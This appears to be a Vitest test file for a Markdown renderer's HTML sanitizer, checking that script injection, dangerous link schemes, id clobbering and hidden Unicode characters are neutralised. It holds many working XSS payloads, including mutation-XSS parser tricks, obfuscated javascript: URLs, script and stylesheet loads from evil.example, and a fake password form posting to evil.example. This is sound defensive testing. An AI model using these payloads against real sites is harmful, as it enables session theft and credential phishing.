import { describe, expect, it } from 'vitest';
import { renderMarkdown } from '../src/index.ts';
import { violations } from './support/allow-list.ts';
import { attributeOf, elementsOf } from './support/parsed.ts';
import { post } from './support/render.ts';

/** Every source in every place where a document may hold HTML or an address, in both profiles. */
function expectSafe(...sources: string[]): void {
  for (const source of sources) {
    const places = [
      source,
      `a ${source} b`,
      `> - ${source}\n\n${source}`,
      `# ${source}`,
      `|${source}|\n|-|\n|${source}|`,
      `<div>\n${source}\n</div>`,
      `<table>${source}</table>`,
      `<p title="${source}">a</p>`,
      `a[^1]\n\n[^1]: ${source}`,
      `![${source}](/a "${source}")`,
      `\`\`\`${source}\n${source}\n\`\`\``,
    ];
    for (const place of places) {
      for (const profile of ['post', 'comment'] as const) {
        const { html } = renderMarkdown(place, { profile });
        expect(violations(html), place).toEqual([]);
      }
    }
  }
}

describe('32: nothing in a document runs', () => {
  it('32: not by an element', () => {
    expectSafe(
      '<script>alert(1)</script>',
      '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
      '<script\n>alert(1)</script\n>',
      '<<script>script>alert(1)<</script>/script>',
      '<scr<script>ipt>alert(1)</scr</script>ipt>',
      '<script/x>alert(1)</script>',
      '<iframe src="javascript:alert(1)"></iframe>',
      '<iframe srcdoc="<script>alert(1)</script>">',
      '<object data="javascript:alert(1)"><embed src="data:text/html,x"></object>',
      '<base href="javascript:/a/">',
      '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
      '<link rel=stylesheet href=//evil.example/x.css>',
      '<frameset onload=alert(1)><frame src="javascript:alert(1)">',
      '<applet code=x><isindex action="javascript:alert(1)">',
      '<template><script>alert(1)</script></template>',
      '<x-element onclick=alert(1)>a</x-element>',
      '<html onload=alert(1)><head></head><body onload=alert(1)>',
    );
  });

  it('32: not by an attribute', () => {
    expectSafe(
      '<img src=x onerror=alert(1)>',
      '<img src=x onerror="alert(1)"//',
      '<img/src=x/onerror=alert(1)>',
      '<img """><script>alert(1)</script>">',
      '<img src=x:x onerror\n=\nalert(1)>',
      '<b onmouseover=alert(1)>a</b>',
      '<details open ontoggle=alert(1)><summary>a</summary></details>',
      '<video><source onerror=alert(1)></video>',
      '<audio src onloadstart=alert(1)>',
      '<a href=x onclick=alert(1) autofocus onfocus=alert(1) tabindex=1>a</a>',
      '<p on\u0000click=alert(1)>a</p>',
      "<p title='a' onclick='alert(1)'>a</p>",
      '<p title="a"onclick="alert(1)">a</p>',
      '<p is=x-element slot=y part=z popover popovertarget=q inert hidden>a</p>',
    );
  });

  it('32: not by a browser that reads the result in another way', () => {
    expectSafe(
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
      '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
      '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
      '<svg><title><a title="</title><img src=x onerror=alert(1)>"></a></title></svg>',
      '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style>',
      '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></p>',
      '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></p>',
      '<title><p title="</title><img src=x onerror=alert(1)>"></p>',
      '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></p>',
      '<select><template><style><!--</style><a rel="--></style></template></select><img onerror=alert(1) src>">',
      '<!--><img src=x onerror=alert(1)>-->',
      '<!-- --!><img src=x onerror=alert(1)> -->',
      '<![CDATA[><img src=x onerror=alert(1)>]]>',
      '<?xml ><img src=x onerror=alert(1)>?>',
      '</ ><img src=x onerror=alert(1)>',
      '<a title="`<img src=x onerror=alert(1)>`">a</a>',
      '<p title="&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;">a</p>',
      '&lt;img src=x onerror=alert(1)&gt;',
      '<table><td><a><table><td><a>x</table></a></table>',
      '<a><p><a></p></a>',
      '<p><table><p></table></p>',
      '<b><p><b><p><b><p></b></b></b>',
      '<ul><li><div><li></div></div></div></li></ul>',
      '<dl><dt><div><dd></div></div></dl>',
      '<ruby><rt><div><rt></ruby></div>',
      '<h1><h2></h1></h2>',
      '<details><summary><details><summary></summary></details></summary></details>',
    );
  });
});

describe('34: addresses lead only where they may', () => {
  const schemes = [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    '\u0001javascript:alert(1)',
    '\u00a0javascript:alert(1)',
    'java\tscript:alert(1)',
    'java\nscript:alert(1)',
    'java\rscript:alert(1)',
    'java&Tab;script:alert(1)',
    'java&NewLine;script:alert(1)',
    'javascript&colon;alert(1)',
    'javascript&#58;alert(1)',
    'javascript&#x3a;alert(1)',
    'javascript&#0000058alert(1)',
    '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
    '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)',
    '%6aavascript:alert(1)',
    '%0ajavascript:alert(1)',
    'javascript://%0aalert(1)',
    'javascript\\:alert(1)',
    'vbscript:msgbox(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'data:image/svg+xml,<svg onload=alert(1)>',
    'data:image/png;base64,AAAA',
    'file:///etc/passwd',
    'blob:https://a.b/c',
    'filesystem:https://a.b/c',
    'about:blank',
    'intent://a#Intent;end',
    'ms-word:ofe|u|x',
    'livescript:x',
    'jar:https://a.b!/c',
    'view-source:https://a.b',
    'feed:javascript:alert(1)',
    'ws://a.b',
    'ftp://a.b',
  ];

  it.each(schemes)('34: %j', (url) => {
    expectSafe(
      `[a](${url})`,
      `[a](<${url}>)`,
      `![a](${url})`,
      `<${url}>`,
      url,
      `[a][r]\n\n[r]: ${url}`,
      `[a][r]\n\n[r]: <${url}>`,
      `[r]\n\n[r]: ${url} "t"`,
      `<a href="${url}">a</a>`,
      `<a href='${url}'>a</a>`,
      `<a href=${url}>a</a>`,
      `<img src="${url}">`,
      `<img srcset="${url} 1x">`,
      `<blockquote cite="${url}">a</blockquote>`,
      `<a xlink:href="${url}" ping="${url}">a</a>`,
    );
  });

  it('34: and those that they may lead to are kept', () => {
    const urls = [
      'http://a.b',
      'https://a.b',
      'mailto:a@b.c',
      'tel:+49',
      '/a',
      'a',
      '#a',
      '?a',
      '//a.b',
      './a:b',
    ];
    for (const url of urls) {
      expect(post(`[x](${url})`)).toContain(`<a href="${url}"`);
      expect(post(`<a href="${url}">x</a>`)).toContain(`<a href="${url}"`);
    }
    expect(post('<img src="mailto:a@b.c" alt="d">')).toBe('d');
    expect(post('![d](tel:1)')).toBe('<p>d</p>');
  });

  it('34: what is not a link stays readable', () => {
    expect(post('[a](javascript:b)')).toBe('<p>[a](javascript:b)</p>');
    expect(post('<a href="javascript:b">a</a>')).toBe('<p><a>a</a></p>');
  });
});

describe('35: documents cannot dress up as the page', () => {
  it('35: no drawings, styles or forms', () => {
    expectSafe(
      '<svg onload=alert(1)><use href="data:image/svg+xml,x#y"/></svg>',
      '<svg><animate attributeName=href values=javascript:alert(1) /><a><text y=20>a</text></a></svg>',
      '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
      '<style>@import url(//evil.example); body { display: none }</style>',
      '<div style="position:fixed;inset:0;background:url(javascript:alert(1))">log in</div>',
      '<form action=//evil.example><input name=password type=password><button>log in</button></form>',
      '<input type=image src=x formaction=javascript:alert(1)>',
      '<label for=app><select><option>a</select><textarea>b</textarea></label>',
      '<dialog open>a</dialog><marquee>b</marquee><center>c</center>',
      '- [ ] <input type=text autofocus onfocus=alert(1)>',
    );
  });

  it('35: no ids and names but prefixed ones', () => {
    for (const name of [
      'config',
      '__proto__',
      'getElementById',
      'cookie',
      'app',
      'user-content-x',
    ]) {
      const html = post(
        `<a id="${name}">a</a> <a name="${name}2">b</a> <img name="${name}3" src="/x">`,
      );
      expect(violations(html)).toEqual([]);
      const ids = elementsOf(html).map((element) => attributeOf(element, 'id'));
      expect(ids.filter((id) => id !== undefined)).toEqual([
        `user-content-${name}`,
        `user-content-${name}2`,
        `user-content-${name}3`,
      ]);
      expect(html).not.toContain('name=');
    }
  });

  it('35: not the ids of footnotes', () => {
    const html = post('<a id="fn-1">x</a> <a id=fnref-1>y</a> a[^1]', '', '[^1]: b');
    expect(violations(html)).toEqual([]);
    expect(html.match(/id="user-content-fn-1"/g)).toHaveLength(1);
    expect(html).toContain('<li id="user-content-fn-1">');
  });

  it('35: no classes but that of the language of code', () => {
    expectSafe(
      '<div class="btn btn-primary md-heading hljs footnotes">a</div>',
      '<code class="btn language-js md-anchor">a</code>',
      '<span class="hljs-keyword">a</span>',
      '<li class="task-list-item">a</li>',
      '<a class="footnote-ref" role="doc-noteref" aria-label="x" data-x=y href="/a">a</a>',
    );
    expect(post('<span class="hljs-keyword btn">a</span>')).toBe('<p><span>a</span></p>');
    expect(post('<code class="btn language-js">a</code>')).toBe(
      '<p><code class="language-js">a</code></p>',
    );
  });
});

describe('38: what is not seen does not deceive', () => {
  const hidden = ['\u202e', '\u2066', '\u2069', '\u200b', '\u200f', '\ufeff', '\u00ad', '\u2060'];

  it.each(hidden)('38: %j shows its number in code', (char) => {
    const number = `⟨U+${char.charCodeAt(0).toString(16).toUpperCase().padStart(4, '0')}⟩`;
    for (const source of [`\`a${char}b\``, `<code>a<b>${char}</b>b</code>`]) {
      const code = /<code[^>]*>(.*?)<\/code>/s.exec(post(source))?.[1] ?? '';
      expect(code).not.toContain(char);
    }
    expect(post(`\`a${char}b\``)).toContain(`a${number}b`);
    const block = post('```js', `if (admin${char}) {} // "${char}x"`, '```');
    expect(block).not.toContain(char);
    expect(block).toContain(number);
  });

  it.each(hidden)('38: %j is not in the words of a bare address', (char) => {
    for (const url of [
      `https://a.example/${char}gpj.exe`,
      `<https://a.example/${char}x>`,
      `<https://a.example/${encodeURIComponent(char)}x>`,
      `https://a.example/${encodeURIComponent(char)}x`,
    ]) {
      for (const [, words] of post(url).matchAll(/<a [^>]*>(.*?)<\/a>/g)) {
        expect(words).not.toContain(char);
      }
    }
  });

  it('38: joiners stay, which words and emoji are written with', () => {
    expect(post('`می‌خواهم 👩‍💻`')).toContain('می‌خواهم 👩‍💻');
  });
});
